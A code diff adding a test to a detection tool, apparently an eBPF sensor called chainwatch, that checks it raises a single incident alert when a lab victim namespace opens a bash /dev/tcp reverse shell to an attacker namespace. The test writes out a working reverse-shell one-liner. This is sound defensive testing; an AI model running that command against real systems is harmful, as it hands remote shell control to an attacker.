@@ -79,3 +79,29 @@ def test_run_without_bcc_says_how_to_install_it(tmp_path) -> None:
     assert proc.returncode != 0
     assert "python3-bpfcc" in proc.stderr
     assert "Traceback" not in proc.stderr
+
+
+def test_run_writes_one_alert_for_a_reverse_shell(sensorlab, netlab, tmp_path) -> None:
+    """`chainwatch run --alerts FILE` turns a bash /dev/tcp reverse shell in the lab into one incident in FILE."""
+    alerts, log = tmp_path / "alerts.jsonl", tmp_path / "run.log"
+    with log.open("w") as err:
+        agent = subprocess.Popen([*CHAINWATCH, "run", "--alerts", str(alerts)], stderr=err,
+                                 stdout=subprocess.DEVNULL)
+    try:
+        assert wait_for_line(log, '"sensor_ready"', 60), log.read_text()
+        listener = netlab.listen_tcp(netlab.attacker_ns, 43999, payload=b"echo cw-$((6*7))\nexit\n", duration=10)
+        netlab.run(netlab.victim_ns, ["bash", "-c", f"bash -i >& /dev/tcp/{netlab.attacker_ip4}/43999 0>&1; exit 0"],
+                   timeout=15)
+        assert b"cw-42" in listener.wait(timeout=15)
+        deadline = time.monotonic() + 10
+        while time.monotonic() < deadline and not (alerts.exists() and alerts.read_text().strip()):
+            time.sleep(0.1)
+        time.sleep(1)
+    finally:
+        agent.send_signal(signal.SIGTERM)
+        rc = agent.wait(timeout=30)
+    assert rc == 0, log.read_text()
+    lines = [json.loads(line) for line in alerts.read_text().splitlines()]
+    assert len({a["chainwatch"]["incident"]["id"] for a in lines}) == 1, lines
+    assert lines[-1]["destination"] == {"ip": netlab.attacker_ip4, "port": 43999}
+    assert lines[-1]["rule"]["ruleset"] == "chainwatch"
